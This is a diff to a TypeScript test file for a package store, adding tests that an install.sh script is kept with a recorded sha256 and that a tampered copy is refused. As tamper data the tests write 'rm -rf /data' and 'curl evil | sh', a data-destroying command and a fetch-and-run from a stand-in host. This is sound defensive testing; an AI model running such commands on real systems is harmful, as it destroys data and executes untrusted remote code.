@@ -51,6 +51,39 @@ describe('PackageStore', () => {
     expect(JSON.parse(await fs.readFile(path.join(root, 'packages', 'notes', 'admitted.json'), 'utf8')).admittedAt).toBe(now.toISOString());
   });
 
+  test('install.sh is kept with the package, read back, and a changed copy is refused', async () => {
+    const dir = path.join(root, 'catalog', 'notes');
+    await fs.mkdir(dir, { recursive: true });
+    await fs.writeFile(path.join(dir, 'install.sh'), 'echo hello > /data/config\n');
+    const withScript = { ...pkg('1.0.0'), dir, installScript: true };
+    const store = new PackageStore(root);
+    await store.admit('notes', withScript, now);
+    const kept = (await store.load()).admitted.get('notes')!;
+    expect(kept.service.installScript).toBe(true);
+    expect(kept.service.installScriptText).toBe('echo hello > /data/config\n');
+    // The catalog's copy changing later changes nothing kept.
+    await fs.writeFile(path.join(dir, 'install.sh'), 'rm -rf /data\n');
+    expect((await store.load()).admitted.get('notes')!.service.installScriptText).toBe('echo hello > /data/config\n');
+    // The kept copy changed by hand: not run.
+    const keptFile = path.join(root, 'packages', 'notes', '1.0.0', 'install.sh');
+    expect((await fs.stat(keptFile)).mode & 0o777).toBe(0o600);
+    await fs.appendFile(keptFile, 'curl evil | sh\n');
+    const { admitted, problems } = await store.load();
+    expect(admitted.has('notes')).toBe(false);
+    expect(problems.get('notes')).toContain(`${keptFile} does not match the sha256 recorded`);
+  });
+
+  test('a package without install.sh keeps none; its record of runs is read back', async () => {
+    const store = new PackageStore(root);
+    await store.admit('notes', pkg('1.0.0'), now);
+    expect((await store.load()).admitted.get('notes')!.service.installScript).toBe(false);
+    await expect(fs.stat(path.join(root, 'packages', 'notes', '1.0.0', 'install.sh'))).rejects.toThrow();
+    expect(await store.installRecord('notes')).toBeUndefined();
+    const record = { formatVersion: 1 as const, version: '1.0.0', generation: 'g', result: 'failed' as const, at: now.toISOString(), exitCode: 2, output: 'no' };
+    await store.writeInstallRecord('notes', record);
+    expect(await store.installRecord('notes')).toEqual(record);
+  });
+
   test('a kept file changed by hand is not run: the service gets a problem naming it', async () => {
     const store = new PackageStore(root);
     await store.admit('notes', pkg('1.0.0'), now);
